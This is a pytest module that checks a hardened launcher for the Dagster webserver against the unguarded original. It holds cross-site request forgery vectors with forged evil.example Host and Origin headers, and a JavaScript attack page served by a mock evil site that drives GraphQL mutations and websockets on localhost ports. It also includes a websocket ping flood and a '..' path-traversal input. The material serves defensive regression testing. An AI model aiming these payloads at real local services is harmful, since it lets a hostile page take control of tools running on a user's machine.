"""Our launcher and the bare dagster-webserver as processes, side by side, asked by sockets and by a real browser."""

from __future__ import annotations

import http.client
import http.server
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import psutil
import pytest
from dagster import DagsterInstance
from dagster._core.workspace.context import WorkspaceProcessContext
from dagster._core.workspace.load_target import EmptyWorkspaceTarget
from dagster_webserver.app import create_app_from_workspace_process_context
from starlette.routing import Route, WebSocketRoute
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Subprotocol

import salesintel_dagster

pytestmark = pytest.mark.slow

ROOT = Path(salesintel_dagster.__file__).parents[1]
TOKEN = "0123456789abcdef0123456789abcdef"
START_SECONDS = 60
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
DEFINITIONS = """
from pathlib import Path
import dagster as dg

@dg.asset
def tiny_asset() -> None: ...

@dg.schedule(cron_schedule="0 3 * * *", target=[tiny_asset])
def tiny_schedule():
    Path("evaluated").touch()
    return {}

def tiny_names(*_):
    Path("named").touch()
    return ["a"]

@dg.job(partitions_def=dg.DynamicPartitionsDefinition(tiny_names))
def tiny_job(): ...

defs = dg.Definitions(assets=[tiny_asset], jobs=[tiny_job], schedules=[tiny_schedule])
"""
EVALUATION = """scheduleOrError(scheduleSelector: {
  repositoryLocationName: "tiny_definitions", repositoryName: "__repository__", scheduleName: "tiny_schedule"
}) { ... on Schedule { futureTicks(limit: 1) { results { evaluationResult { skipReason } } } } }"""
PLAN = """executionPlanOrError(mode: "default", runConfigData: {}, pipeline: {
  repositoryLocationName: "tiny_definitions", repositoryName: "__repository__", pipelineName: "__ASSET_JOB"
}) { __typename }"""
NAMES = """pipelineOrError(params: {
  repositoryLocationName: "tiny_definitions", repositoryName: "__repository__", pipelineName: "tiny_job"
}) { ... on Pipeline { partitionKeysOrError { partitionKeys } } }"""
OURS = ("-m", "salesintel_dagster.webserver", "--port", "0")
HANDSHAKE = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    "Sec-WebSocket-Protocol: graphql-ws",
)
LIMITS = "{instance{concurrencyLimits{concurrencyKey}}}"


@dataclass(frozen=True, slots=True)
class Served:
    port: int
    process: subprocess.Popen[bytes]
    log: Path

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def ask(self, method: str, target: str, headers: dict[str, str] | None = None, body: str = "") -> tuple[int, str]:
        """Exactly these headers, plus the right Host where none is given."""
        with closing(http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)) as connection:
            connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
            sent = {"Host": self.host, "Content-Length": str(len(body)), **(headers or {})}
            for name, value in sent.items():
                connection.putheader(name, value)
            connection.endheaders(body.encode())
            answered = connection.getresponse()
            return answered.status, answered.read().decode()

    def graphql(self, query: str, headers: dict[str, str] | None = None) -> dict:
        sent = {"Content-Type": "application/json", **(headers or {})}
        status, text = self.ask("POST", "/graphql", sent, json.dumps({"query": query}))
        assert status == 200, text
        return json.loads(text)["data"]

    def limits(self) -> set[str]:
        """The pools that attacks have made."""
        return {limit["concurrencyKey"] for limit in self.graphql(LIMITS)["instance"]["concurrencyLimits"]}


def _make_pool(name: str) -> str:
    return f'mutation{{setConcurrencyLimit(concurrencyKey:"{name}",limit:1)}}'


def _free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        return taken.getsockname()[1]


def _begin(folder: Path, *command: str) -> Served:
    """Start a webserver on an instance of its own; `_ready` waits for it."""
    folder.mkdir()
    shutil.copyfile(ROOT / "salesintel_dagster" / "dagster.yaml", folder / "dagster.yaml")
    (folder / "tiny_definitions.py").write_text(DEFINITIONS)
    (folder / "empty.yaml").write_text("load_from: []\n")
    environment = {**os.environ, "DAGSTER_HOME": str(folder), "PYTHONPATH": str(ROOT)}
    port = 0 if command[:2] == OURS[:2] else int(command[command.index("-p") + 1])
    with (folder / "log").open("wb") as log:
        process = subprocess.Popen([sys.executable, *command], cwd=folder, env=environment, stdout=log, stderr=log)
    return Served(port, process, folder / "log")


def _ready(begun: Served) -> Served:
    deadline = time.monotonic() + START_SECONDS
    while time.monotonic() < deadline:
        assert begun.process.poll() is None, begun.log.read_text()
        said = re.search(r"Serving [\w-]+ on http://[^:]+:(\d+)", begun.log.read_text())
        if said:
            served = Served(int(said[1]), begun.process, begun.log)
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", served.port)) == 0:
                    return served
        time.sleep(0.05)
    raise AssertionError(begun.log.read_text())


@contextmanager
def _stopped(*begun: Served) -> Iterator[None]:
    """Stop all at once by SIGTERM: each within 10 seconds, and no code server outlives its webserver."""
    children: list[psutil.Process] = []
    try:
        yield
        running = [one.process for one in begun if one.process.poll() is None]
        children = [child for one in running for child in psutil.Process(one.pid).children(recursive=True)]
        for process in running:
            process.terminate()
        for process in running:
            process.wait(timeout=10)
    finally:
        for one in begun:
            one.process.kill()
            one.process.wait()
        for child in children:
            child.wait(timeout=10)


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Served]]:
    folder = tmp_path_factory.mktemp("webservers")
    (folder / "token").write_text(TOKEN)
    (folder / "token").chmod(0o600)
    commands = {
        "guarded": (*OURS, "-m", "tiny_definitions"),
        "viewer": (*OURS, "-m", "tiny_definitions", "--read-only", "--token-file", str(folder / "token")),
        "bare": ("-m", "dagster_webserver", "-p", str(_free_port()), "--empty-workspace"),
    }
    begun = {name: _begin(folder / name, *words) for name, words in commands.items()}
    with _stopped(*begun.values()):
        yield {name: _ready(one) for name, one in begun.items()}


@pytest.fixture(scope="module")
def guarded(servers: dict[str, Served]) -> Served:
    return servers["guarded"]


@pytest.fixture(scope="module")
def bare(servers: dict[str, Served]) -> Served:
    return servers["bare"]


@pytest.fixture(scope="module")
def viewer(servers: dict[str, Served]) -> Served:
    return servers["viewer"]


JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
VECTORS = {
    "get": ("GET", "/graphql?query={mutation}", {}, ""),
    "get-newline": ("GET", "/graphql%0a?query={mutation}", {}, ""),
    "host": ("POST", "/graphql", {**JSON, "Host": "evil.example"}, "{body}"),
    "origin": ("POST", "/graphql", {**JSON, "Origin": "https://evil.example"}, "{body}"),
    "origin-null": ("POST", "/graphql", {**JSON, "Origin": "null"}, "{body}"),
    "site": ("POST", "/graphql", {**JSON, "Sec-Fetch-Site": "cross-site"}, "{body}"),
    "site-port": ("POST", "/graphql", {**JSON, "Sec-Fetch-Site": "same-site"}, "{body}"),
    "plain-json": ("POST", "/graphql", {"Content-Type": "text/plain; x=application/json"}, "{body}"),
    "form": ("POST", "/graphql?query={mutation}", FORM, "a=b"),
    "untyped": ("POST", "/graphql?query={mutation}", {}, ""),
}


@pytest.mark.parametrize("name", VECTORS)
def test_dagster_does_what_another_site_asks_and_our_launcher_does_not(guarded: Served, bare: Served, name: str):
    """J4: the bare webserver shows that each vector is one, and that this test would fail without the guard."""
    method, target, headers, body = VECTORS[name]
    mutation = _make_pool(name)
    target = target.replace("{mutation}", quote(mutation))
    body = body.replace("{body}", json.dumps({"query": mutation}))
    assert bare.ask(method, target, headers, body)[0] == 200
    assert name in bare.limits()
    status, text = guarded.ask(method, target, headers, body)
    assert (status, text[:9], text.count("\n")) == (403, "refused: ", 1)
    assert name not in guarded.limits()


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://localhost:{port}", None])
def test_dagster_opens_a_websocket_for_another_site_and_our_launcher_does_not(
    guarded: Served, bare: Served, origin: str | None
):
    """J4"""
    named = origin.format(port=guarded.port) if origin else None
    with connect(f"ws://{bare.host}/graphql", origin=named, subprotocols=[Subprotocol("graphql-ws")], proxy=None):
        pass
    with pytest.raises(InvalidStatus) as raised, connect(f"ws://{guarded.host}/graphql", origin=named, proxy=None):
        pass
    assert raised.value.response.status_code == 403
    assert b"refused: " in raised.value.response.body


def test_the_uis_websocket_works(guarded: Served):
    """J5: the handshake as Chromium sends it, then Dagster's own protocol up to a verdict on a subscription."""
    headers = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "websocket", "User-Agent": "Mozilla/5.0"}
    protocols = [Subprotocol("graphql-ws")]
    start = {"id": "1", "type": "start", "payload": {"query": "subscription{unheardOf}"}}
    with connect(
        f"ws://{guarded.host}/graphql",
        origin=f"http://{guarded.host}",
        subprotocols=protocols,
        additional_headers=headers,
        proxy=None,
    ) as opened:
        assert opened.subprotocol == "graphql-ws"
        opened.send(json.dumps({"type": "connection_init"}))
        assert json.loads(opened.recv(timeout=10)) == {"type": "connection_ack"}
        opened.send(json.dumps(start))
        assert "unheardOf" in json.loads(opened.recv(timeout=10))["payload"]["message"]


def test_the_ui_asks_as_a_browser_and_is_answered(guarded: Served):
    """J5"""
    browser = {"Origin": f"http://{guarded.host}", "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    nodes = guarded.graphql("{assetNodes{assetKey{path}}}", browser)
    assert nodes == {"assetNodes": [{"assetKey": {"path": ["tiny_asset"]}}]}
    assert guarded.graphql(_make_pool("wanted"), browser) == {"setConcurrencyLimit": True}
    assert "wanted" in guarded.limits()
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert guarded.ask("GET", "/runs/1", {**link, "Accept": "text/html"})[0] == 200
    assert "GraphiQL" in guarded.ask("GET", "/graphql", {"Accept": "text/html"})[1]


def test_the_same_is_served_as_by_the_bare_webserver(guarded: Served, bare: Served):
    assert guarded.ask("GET", "/server_info") == bare.ask("GET", "/server_info")
    pages = [re.sub(r"[0-9a-f]{32}|[0-9a-f-]{36}", "ID", one.ask("GET", "/")[1]) for one in (guarded, bare)]
    assert pages[0] == pages[1]
    assert '"telemetryEnabled": false' in pages[0]
    permissions = "{permissions{permission value}}"
    assert guarded.graphql(permissions) == bare.graphql(permissions)


def test_we_know_every_door_that_dagster_has(tmp_path: Path):
    """A new route that changes something, or a new websocket, is seen at the upgrade and judged by `rule`."""
    with (
        DagsterInstance.local_temp(str(tmp_path)) as instance,
        WorkspaceProcessContext(instance, EmptyWorkspaceTarget()) as context,
    ):
        app = create_app_from_workspace_process_context(context)
    writing = {route.path for route in app.routes if isinstance(route, Route) and "POST" in (route.methods or ())}
    sockets = {route.path for route in app.routes if isinstance(route, WebSocketRoute)}
    reports = {f"/report_asset_{what}/{{asset_key:path}}" for what in ("materialization", "check", "observation")}
    assert writing == {"/graphql", *reports}
    assert sockets == {"/graphql"}


def test_only_this_machine_can_connect(guarded: Served):
    """J6: the webserver and its code servers listen on loopback, or on sockets that are no network's."""
    process = psutil.Process(guarded.process.pid)
    family = [process, *process.children(recursive=True)]
    listening = [found for one in family for found in one.net_connections("inet") if found.status == "LISTEN"]
    assert (("127.0.0.1", guarded.port)) in [tuple(found.laddr) for found in listening]
    assert {found.laddr.ip for found in listening} <= {"127.0.0.1", "::1"}


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
def test_a_stop_does_not_wait_for_pages_that_are_open(tmp_path: Path, number: signal.Signals):
    """J14: a websocket that stays, one that closes and has not read, a request that never ends; the port is free."""
    begun = _begin(tmp_path / "home", *OURS, "-w", "empty.yaml")
    with _stopped(begun):
        served = _ready(begun)
        stalled = socket.create_connection(("127.0.0.1", served.port))
        stalled.sendall(f"POST /graphql HTTP/1.1\r\nHost: {served.host}\r\nContent-Length: 99\r\n".encode())
        stalled.sendall(b"Content-Type: application/json\r\n\r\n")
        address, protocols = f"ws://{served.host}/graphql", [Subprotocol("graphql-ws")]
        with (
            closing(stalled),
            closing(_closing_websocket(served)),
            connect(address, origin=f"http://{served.host}", subprotocols=protocols, proxy=None),
        ):
            began = time.monotonic()
            served.process.send_signal(number)
            assert served.process.wait(timeout=10) == 0
            assert time.monotonic() - began < 10
        assert "SystemExit" not in served.log.read_text()
    with socket.create_server(("127.0.0.1", served.port)):
        pass


def _closing_websocket(served: Served) -> socket.socket:
    """Has asked for 400 KB of pongs, read none, and said good-bye."""
    opened = socket.socket()
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    opened.connect(("127.0.0.1", served.port))
    head = ("GET /graphql HTTP/1.1", f"Host: {served.host}", f"Origin: http://{served.host}", *HANDSHAKE, "", "")
    opened.sendall("\r\n".join(head).encode())
    assert opened.recv(12) == b"HTTP/1.1 101"
    ping = b"\x89\xfd" + bytes(4 + 125)
    opened.sendall(3200 * ping + b"\x88\x80" + bytes(4))
    time.sleep(0.5)
    return opened


@pytest.mark.parametrize(
    "words,sentence",
    [
        (("--bind", "0.0.0.0"), "needs --token-file"),  # noqa: S104 - refused
        (("--bind", "0.0.0.0", "--token-file", "none"), "cannot be read"),  # noqa: S104 - refused
        (("--allow-host", "*"), "no wildcard"),
        ((), "DAGSTER_HOME is not set"),
    ],
)
def test_what_cannot_be_served_is_a_sentence_and_not_a_server(words: tuple[str, ...], sentence: str, tmp_path: Path):
    """J6"""
    environment = {name: value for name, value in os.environ.items() if name != "DAGSTER_HOME"}
    command = [sys.executable, *OURS, *words]
    found = subprocess.run(
        command,
        env={**environment, "PYTHONPATH": str(ROOT)},
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
        timeout=20,
    )
    assert (found.returncode, found.stderr.count("\n"), found.stdout) == (1, 1, "")
    assert sentence in found.stderr


def test_a_taken_port_is_a_sentence(guarded: Served):
    command = [sys.executable, *OURS[:2], "--port", str(guarded.port)]
    found = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=20)
    assert found.returncode == 1
    assert found.stderr == f"webserver: cannot listen on 127.0.0.1 port {guarded.port}: Address already in use\n"


def test_a_viewer_reads_and_changes_nothing(viewer: Served):
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    assert viewer.ask("GET", "/server_info")[0] == 401
    assert viewer.graphql("{version}", bearer)["version"]
    for permission in viewer.graphql("{permissions{permission value}}", bearer)["permissions"]:
        assert permission["value"] is False, permission
    for mutation in (_make_pool("viewed"), "mutation{setNuxSeen}"):  # of Dagster's, the second asks for no permission
        answered = json.loads(viewer.ask("POST", "/graphql", {**JSON, **bearer}, json.dumps({"query": mutation}))[1])
        assert "Unauthorized" in answered["errors"][0]["message"]
    assert not (viewer.log.parent / ".nux").exists()
    assert viewer.graphql(LIMITS, bearer) == {"instance": {"concurrencyLimits": []}}
    assert viewer.ask("POST", "/report_asset_materialization/a", bearer)[0] == 401


def test_a_viewers_question_runs_no_function_of_the_definitions(viewer: Served):
    """Dagster answers a query with what the schedule would do, and runs it for that; a websocket takes queries, too."""
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    evaluated, named = (viewer.log.parent / name for name in ("evaluated", "named"))
    named.unlink(missing_ok=True)  # loading asks for them, too
    for field in (EVALUATION, PLAN, NAMES):
        asked = json.dumps({"query": f"{{ {field} }}"})
        assert "Unauthorized" in viewer.ask("POST", "/graphql", {**JSON, **bearer}, asked)[1]
    assert "Unauthorized" in _subscribe(viewer, f'query {{ capturedLogs(logKey: ["a"]) {{ cursor }} {EVALUATION} }}')
    assert not evaluated.exists()
    assert not named.exists()


def test_a_viewer_who_waits_for_logs_makes_no_folder_for_them(viewer: Served):
    """Dagster made the folder of any key, as often as one was asked for."""
    logs = viewer.log.parent / "storage"
    (logs / "run" / "compute_logs").mkdir(parents=True)
    (logs / "run" / "compute_logs" / "step.out").write_text("said")
    watched = "subscription { capturedLogs(logKey: [%s]) { stdout } }"
    for unknown in (
        '"other", "compute_logs", "step"',
        '"run", "more", "step"',
        '"..", "step"',
        f'"{300 * "a"}", "step"',
    ):
        assert '"type":"error"' in _subscribe(viewer, watched % unknown).replace(" ", "")
    assert "said" in _subscribe(viewer, watched % '"run", "compute_logs", "step"')
    assert [path.name for path in logs.rglob("*") if "log" not in path.name] == ["run", "step.out"]


def _subscribe(viewer: Served, query: str) -> str:
    """Return the first that is answered."""
    with connect(
        f"ws://{viewer.host}/graphql",
        origin=f"http://{viewer.host}",
        additional_headers={"Authorization": f"Bearer {TOKEN}"},
        subprotocols=[Subprotocol("graphql-ws")],
        proxy=None,
    ) as opened:
        opened.send(json.dumps({"id": "1", "type": "start", "payload": {"query": query}}))
        return str(opened.recv(timeout=10))


def test_a_name_that_another_user_may_answer_to_takes_no_token(viewer: Served, guarded: Served):
    assert viewer.ask("GET", "/", {"Host": f"localhost:{viewer.port}", "Accept": "text/html"})[0] == 403
    assert guarded.ask("GET", "/", {"Host": f"localhost:{guarded.port}", "Accept": "text/html"})[0] == 200


def test_a_websocket_needs_the_token_too(viewer: Served):
    """J6"""
    address, origin = f"ws://{viewer.host}/graphql", f"http://{viewer.host}"
    for headers in ({}, {"Accept": "text/html"}):  # the second is shown no page: it was a traceback in the log
        with (
            pytest.raises(InvalidStatus) as raised,
            connect(address, origin=origin, additional_headers=headers, proxy=None),
        ):
            pass
        assert raised.value.response.status_code == 401
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    protocols = [Subprotocol("graphql-ws")]
    with connect(address, origin=origin, additional_headers=bearer, subprotocols=protocols, proxy=None) as opened:
        assert opened.subprotocol == "graphql-ws"


def _chromium(folder: Path, *words: str) -> list[str]:
    """Headless, no profile, and no name but this machine's resolves."""
    assert CHROMIUM
    quiet = "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking"
    fixed = [*quiet.split(), "--disable-component-update", "--enable-logging=stderr", f"--user-data-dir={folder}"]
    return [CHROMIUM, *fixed, "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1", *words]


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium on PATH")
def test_a_real_browser_shows_the_ui(guarded: Served, tmp_path: Path):
    """J5"""
    words = ("--virtual-time-budget=8000", "--dump-dom", f"http://{guarded.host}/assets")
    found = subprocess.run(_chromium(tmp_path, *words), capture_output=True, text=True, check=True, timeout=60)
    assert "tiny_asset" in found.stdout
    assert "CONSOLE" not in found.stderr


ATTACK = """<!doctype html><body><iframe name="sink"></iframe><script>
const targets = TARGETS, seen = {};
const make = name => `mutation{setConcurrencyLimit(concurrencyKey:"${name}",limit:1)}`;
const byUrl = (port, name) => `http://127.0.0.1:${port}/graphql?query=${encodeURIComponent(make(name))}`;
async function attack(port) {
  new Image().src = byUrl(port, "page-image");
  const form = Object.assign(document.createElement("form"), {method: "post", target: "sink"});
  form.action = byUrl(port, "page-form");
  document.body.append(form);
  form.submit();
  const type = "text/plain; x=application/json", body = new Blob([JSON.stringify({query: make("page-fetch")})], {type});
  await fetch(`http://127.0.0.1:${port}/graphql`, {method: "POST", mode: "no-cors", body}).catch(() => 0);
  await fetch(byUrl(port, "page-untyped"), {method: "POST", mode: "no-cors", body: new Blob(["x"])}).catch(() => 0);
  seen[port] = await new Promise(done => {
    const opened = new WebSocket(`ws://127.0.0.1:${port}/graphql`, "graphql-ws");
    opened.onopen = () => done("open");
    opened.onerror = () => done("refused");
  });
}
(async () => {
  for (const port of targets) await attack(port);
  await new Promise(done => setTimeout(done, 500));
  await fetch("/done", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


class _EvilSite(http.server.BaseHTTPRequestHandler):
    """A page of another site, and where it tells what it reached."""

    page = ""
    told: dict[str, str] | None = None

    def do_GET(self) -> None:
        self._answer(self.page.encode())

    def do_POST(self) -> None:
        type(self).told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium on PATH")
def test_a_page_of_another_site_in_a_real_browser_drives_dagster_but_not_ours(
    guarded: Served, bare: Served, tmp_path: Path
):
    """J4"""
    _EvilSite.page = ATTACK.replace("TARGETS", str([bare.port, guarded.port]))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _EvilSite) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        command = _chromium(tmp_path, "--remote-debugging-port=0", f"http://localhost:{site.server_port}/")
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
            deadline = time.monotonic() + 30
            while _EvilSite.told is None and time.monotonic() < deadline:
                time.sleep(0.05)
            browser.terminate()
        site.shutdown()
    assert _EvilSite.told == {str(bare.port): "open", str(guarded.port): "refused"}
    made = {"page-image", "page-form", "page-fetch", "page-untyped"}
    assert made <= bare.limits()
    assert not made & guarded.limits()
